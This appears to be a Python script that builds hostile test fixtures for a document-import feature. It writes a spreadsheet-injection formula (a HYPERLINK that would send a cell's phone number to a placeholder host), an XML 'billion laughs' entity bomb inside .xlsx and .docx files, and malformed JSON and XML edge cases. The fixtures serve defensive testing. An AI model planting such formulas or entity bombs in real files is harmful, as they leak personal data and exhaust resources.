"""Makes the small hostile files of this folder again (``python tests/data/hostile/make.py``).
The big ones (a sheet claiming A1:XFD1048576, a 1 GiB cell …) are made by the tests at run time."""
from __future__ import annotations

from datetime import datetime
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent


def text(ws, row, col, value):
    cell = ws.cell(row=row, column=col)
    cell._value = value          # a text cell as a web form's export writes it: never a formula
    cell.data_type = "s"


def signup_formulas() -> None:
    """A sign-up sheet whose 姓名 column holds formula-like texts, a date and a number."""
    wb = Workbook()
    ws = wb.active
    for col, head in enumerate(("序号", "姓名", "工作单位", "联系电话"), 1):
        text(ws, 1, col, head)
    names = ['=HYPERLINK("http://example.invalid/?"&D2,"点此核对")', "+8613800138000", "-张三", "@SUM(A1:A9)",
             "王五"]
    for row, name in enumerate(names, 2):
        ws.cell(row=row, column=1, value=row - 1)
        text(ws, row, 2, name)
        text(ws, row, 3, "光明区居民")
    ws.cell(row=7, column=1, value=6)
    ws.cell(row=7, column=2, value=datetime(2024, 7, 16))       # a name Excel turned into a date
    ws.cell(row=8, column=1, value=7)
    ws.cell(row=8, column=2, value=13800138000)                 # a number in the name column
    ws.cell(row=9, column=1, value=8)
    text(ws, 9, 2, "2024-07-16")
    wb.save(HERE / "signup-formulas.xlsx")


BOMB_DTD = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
            + "]>")


def _replace_part(source: Path, target: Path, part: str, data: bytes) -> None:
    import zipfile
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, data if info.filename == part else zin.read(info.filename))


def xml_attacks() -> None:
    """Entity bombs and malformed XML inside an .xlsx and a .docx; a sheet claiming A1:XFD1048576."""
    import re

    import docx

    sheet = HERE / "signup-formulas.xlsx"
    _replace_part(sheet, HERE / "entity-bomb.xlsx", "xl/workbook.xml",
                  (BOMB_DTD + '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                   "<sheets><sheet name=\"&lol9;\" sheetId=\"1\"/></sheets></workbook>").encode())
    _replace_part(sheet, HERE / "malformed.xlsx", "xl/workbook.xml", b"<workbook><sheets><sheet")
    import zipfile
    with zipfile.ZipFile(sheet) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    xml = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml)
    _replace_part(sheet, HERE / "claims-whole-sheet.xlsx", "xl/worksheets/sheet1.xml", xml.encode())

    d = docx.Document()
    d.add_paragraph("第一条 为了规范管理，制定本办法。")
    plain = HERE / "_draft.docx"
    d.save(str(plain))
    with zipfile.ZipFile(plain) as z:
        body = z.read("word/document.xml").decode()
    bomb = BOMB_DTD + body.split("?>", 1)[1].replace("制定本办法", "制定本办法&lol9;")
    _replace_part(plain, HERE / "entity-bomb.docx", "word/document.xml", bomb.encode())
    _replace_part(plain, HERE / "malformed.docx", "word/document.xml", body[: len(body) // 2].encode())
    plain.unlink()


def json_attacks() -> None:
    """Tiny hearing files, each with one thing the reader must refuse and name."""
    head = '{"format": "hearing-desk/1", "hearing": {"title": "听证会", '
    files = {
        "duplicate-key.json": head + '"title": "另一个名称"}, "people": []}',
        "big-integer.json": head + '"x": 1}, "people": [{"seq": 9223372036854775808}]}',
        "long-integer.json": head + '"x": 1}, "people": [{"seq": ' + "9" * 5000 + "}]}",
        "e308.json": head + '"x": 1}, "people": [{"seq": 1e308}]}',
        "nan.json": head + '"x": 1}, "people": [{"seq": NaN}]}',
        "lone-surrogate.json": head + '"x": 1}, "opinions": [{"text": "意见\\ud800"}]}',
        "nul-title.json": '{"format": "hearing-desk/1", "hearing": {"title": "\\u0000\\u0000"}, "people": []}',
    }
    for name, text in files.items():
        (HERE / name).write_text(text, encoding="utf-8")


if __name__ == "__main__":
    signup_formulas()
    xml_attacks()
    json_attacks()
